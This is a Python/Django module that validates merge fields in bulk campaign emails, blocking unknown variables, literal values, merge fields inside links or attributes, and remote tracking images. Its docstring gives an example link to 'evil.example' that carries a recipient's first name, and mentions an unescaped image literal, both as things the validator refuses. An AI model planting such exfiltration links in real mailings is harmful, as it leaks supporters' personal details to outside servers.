"""Merge fields: Django template syntax, restricted to a few variables and filters.

Campaigners write ``Dear {{ first_name|default:"friend" }},``. A template engine with no
tags at all (only the built-in filters) compiles it; a walk over the compiled nodes then
refuses any variable or filter not on the lists below. ``validate_variant`` runs in the
admin form (``MailingVariant.clean``) and again before a mailing starts, so a typo is
reported to the campaigner, never rendered into 100,000 inboxes.

A mailing goes to the whole supporter list, so whoever can write one must not be able to
carry recipients' details off to a server of their choosing. Hence:

- a merge field stands only in text, never inside an HTML attribute (a link, an image
  source, a title): ``[x](https://evil.example/?n={{ first_name }})`` is refused, and so
  is a merge field written straight after a web address in text (mail clients turn such
  text into links);
- no literal value (Django marks template literals safe, so ``{{ "<img …>" }}`` would
  bypass the escaping); the one argument allowed is the plain-text fallback of
  ``default``, which is escaped like any name;
- images come only from Outcry's own media, so no remote server learns who opened what.
"""

import re
from functools import cache
from html.parser import HTMLParser
from urllib.parse import urlsplit

from django.conf import settings
from django.core.exceptions import ValidationError
from django.template import Engine, Template, TemplateSyntaxError
from django.template.base import TextNode, VariableNode
from django.utils.html import escape
from django.utils.translation import gettext as _

from outcry.core.text import render_markdown

# What a campaigner may write, and what each stands for.
MERGE_FIELDS = {
    "first_name": "The supporter's first name (may be empty: give a default).",
    "last_name": "The supporter's last name (may be empty).",
    "country": "The name of the supporter's country (may be empty).",
}
ALLOWED_FILTERS = frozenset({"default", "upper", "lower", "title", "capfirst"})
# Filled in by Outcry in every message, usable in the layout (not listed for campaigners).
# consent_reason: why this person gets it, naming their consent (see mailings.basis).
LINK_FIELDS = frozenset({"view_url", "unsubscribe_url", "preferences_url", "consent_reason"})
# The only fields that may stand in an attribute (the layout's links): each carries the
# recipient's token, never their name or country.
URL_FIELDS = frozenset({"view_url", "unsubscribe_url", "preferences_url"})
# The filter whose (quoted, plain-text) argument is allowed: the fallback for an empty field.
DEFAULT_FILTER = "default"
# Markup in a fallback would be markup in the message, and braces would end the merge
# field early; anything else is plain text, escaped like a name.
_FALLBACK_FORBIDDEN = re.compile(r"[<>{}]")
# A merge field written right after a web address, with no space between: the address
# would carry the value (mail clients make links of addresses in text).
_URL_START_RE = re.compile(r"(?:https?:|mailto:|ftp:|www\.|//)", re.IGNORECASE)

MERGE_TAG_RE = re.compile(r"\{\{.*?\}\}|\{%.*?%\}|\{#.*?#\}", re.DOTALL)


@cache
def merge_engine(*, autoescape: bool) -> Engine:
    """An engine that knows the built-in filters and no tag at all ({% … %} is an error)."""
    return Engine(builtins=["django.template.defaultfilters"], autoescape=autoescape, libraries={})


def compile_merge(source: str, *, autoescape: bool, allowed: frozenset[str] | None = None):
    """Compile ``source`` into a Template; raises ValidationError on anything not allowed."""
    allowed = frozenset(MERGE_FIELDS) if allowed is None else allowed
    try:
        template = Template(source, engine=merge_engine(autoescape=autoescape))
    except TemplateSyntaxError as exc:
        raise ValidationError(
            _("Merge field syntax error: %(error)s"), params={"error": exc}
        ) from exc
    problems = []
    for node in template.nodelist:
        if isinstance(node, TextNode):
            if "{{" in node.s or "{%" in node.s or "}}" in node.s:
                problems.append(_("A merge field is not closed: write {{ first_name }}."))
        elif not isinstance(node, VariableNode):
            problems.append(
                _("Only merge fields such as {{ first_name }} are allowed, no {% tags %}.")
            )
    for node in template.nodelist.get_nodes_by_type(VariableNode):
        problems.extend(_expression_problems(node.filter_expression, allowed))
    if problems:
        raise ValidationError(problems)
    return template


def _expression_problems(expression, allowed: frozenset[str]) -> list[str]:
    """What is wrong with one ``{{ … }}``; also makes a ``default`` fallback escapable."""
    problems = []
    var = expression.var
    lookups = getattr(var, "lookups", None)
    if lookups is None:
        # A literal, e.g. {{ "text" }}: Django marks it safe, so it would go out unescaped.
        problems.append(
            _("Only merge fields such as {{ first_name }} are allowed, no text in quotes.")
        )
    elif var.var not in allowed or len(lookups) != 1:
        problems.append(
            _("Unknown merge field “%(name)s”. Known: %(known)s.")
            % {"name": var.var, "known": ", ".join(sorted(MERGE_FIELDS))}
        )
    filters = []
    for func, args in expression.filters:
        filter_name = getattr(func, "_filter_name", func.__name__)
        if filter_name not in ALLOWED_FILTERS:
            problems.append(
                _("Filter “%(name)s” is not allowed. Allowed: %(allowed)s.")
                % {"name": filter_name, "allowed": ", ".join(sorted(ALLOWED_FILTERS))}
            )
            continue
        plain_args = []
        for is_lookup, arg in args:
            # A literal argument comes compiled as its (safe) value, a variable as a Variable.
            if (
                filter_name != DEFAULT_FILTER
                or is_lookup
                or not isinstance(arg, str)
                or _FALLBACK_FORBIDDEN.search(arg)
            ):
                problems.append(
                    _(
                        "Only a plain-text fallback is allowed in a merge field, as in "
                        '{{ first_name|default:"friend" }}: no other filter argument, '
                        "and no <, > or braces in it."
                    )
                )
            else:
                plain_args.append((True, _PlainText(arg)))
        filters.append((func, plain_args))
    # Django marks a literal argument safe when rendering; given as a "variable" that
    # resolves to plain text instead, the fallback is escaped like any name.
    expression.filters = filters
    return problems


class _PlainText:
    """A filter argument that resolves to its text, not marked safe."""

    def __init__(self, text: str) -> None:
        self.text = str.__str__(text)

    def resolve(self, context) -> str:
        return self.text


def validate_variant(variant) -> None:
    """Every templated field of a variant compiles with known merge fields only, none of
    them inside an attribute or a web address, and the body shows no remote image."""
    errors = {}
    for field in ("subject", "preheader", "body", "reason"):
        source = getattr(variant, field) or ""
        try:
            compile_merge(source, autoescape=False)
        except ValidationError as exc:
            errors[field] = exc.messages
            continue
        in_attributes, images = body_html_problems(source) if field == "body" else ([], [])
        # A tag already refused inside a link need not be reported twice.
        problems = (in_attributes or merge_tags_after_urls(source)) + images
        if problems:
            errors[field] = problems
    if errors:
        raise ValidationError(errors)


def merge_tags_after_urls(source: str) -> list[str]:
    """A merge field written as part of a web address in text (``https://x/?n={{ … }}``)."""
    problems = []
    for match in MERGE_TAG_RE.finditer(source):
        before = source[: match.start()]
        word = before.split()[-1] if before and not before[-1].isspace() else ""
        if _URL_START_RE.search(word):
            problems.append(
                _(
                    "The merge field %(tag)s is part of a web address. Merge fields may "
                    "stand only in the text, never in a link: a link must not carry a "
                    "recipient's name or country."
                )
                % {"tag": match.group(0)}
            )
    return problems


class _AttributeScan(HTMLParser):
    """Collects (tag, attribute, value) of every attribute in an HTML fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag, attrs) -> None:
        self.attributes.extend((tag, name, value or "") for name, value in attrs)

    handle_startendtag = handle_starttag


def html_attributes(html: str) -> list[tuple[str, str, str]]:
    scan = _AttributeScan()
    scan.feed(html)
    scan.close()
    return scan.attributes


def merge_tags_in_attributes(html: str, *, allowed: frozenset[str] = frozenset()) -> list[str]:
    """The merge tags standing in an attribute of ``html`` (a template source), except a
    lone ``{{ name }}`` for a name in ``allowed``."""
    found = []
    for _tag, _name, value in html_attributes(html):
        for match in MERGE_TAG_RE.finditer(value):
            name = match.group(0)[2:-2].strip()
            if name not in allowed or match.group(0) != value:
                found.append(match.group(0))
    return found


def is_own_media(url: str) -> bool:
    """Whether an image address is Outcry's own: a relative path under the media URL, or
    an address on this site's host."""
    url = url.strip()
    media = settings.MEDIA_URL if str(settings.MEDIA_URL).startswith("/") else "/media/"
    if url.startswith(media) and not url.startswith("//"):
        return True
    site = urlsplit(settings.SITE_URL)
    parts = urlsplit(url)
    return parts.scheme in {"http", "https"} and parts.netloc.lower() == site.netloc.lower()


def body_html_problems(body: str) -> tuple[list[str], list[str]]:
    """Merge fields inside an attribute, and remote images, in the body as it is sent."""
    protected, tags = protect_merge_tags(body)
    html = str(render_markdown(protected))
    in_attributes, images = [], []
    for tag, name, value in html_attributes(html):
        for key, merge_tag in tags.items():
            if key in value:
                in_attributes.append(
                    _(
                        "The merge field %(tag)s is inside an HTML attribute (%(attribute)s). "
                        "Merge fields may stand only in the text, never in a link, an image "
                        "or any other attribute: a link must not carry a recipient's name or "
                        "country."
                    )
                    % {"tag": merge_tag, "attribute": name}
                )
        if tag == "img" and name == "src" and not is_own_media(value):
            images.append(
                _(
                    "The image %(src)s is not on this site. Upload images to Outcry's own "
                    "media and use their address here: a remote image tells its server "
                    "who opened the message."
                )
                % {"src": value}
            )
    return in_attributes, images


def protect_merge_tags(source: str) -> tuple[str, dict[str, str]]:
    """Swap merge tags for inert placeholders, so Markdown and the sanitiser leave them be."""
    tags: dict[str, str] = {}

    def swap(match: re.Match) -> str:
        key = f"MERGEFIELD{len(tags)}X"
        tags[key] = match.group(0)
        return key

    return MERGE_TAG_RE.sub(swap, source), tags


def restore_merge_tags(text: str, tags: dict[str, str]) -> str:
    for key, tag in tags.items():
        text = text.replace(key, tag)
    return text


def escape_template_source(source: str) -> str:
    """HTML-escape the literal text of a template source, leaving its merge tags intact."""
    out, last = [], 0
    for match in MERGE_TAG_RE.finditer(source):
        out.append(escape(source[last : match.start()]))
        out.append(match.group(0))
        last = match.end()
    out.append(escape(source[last:]))
    return "".join(out)
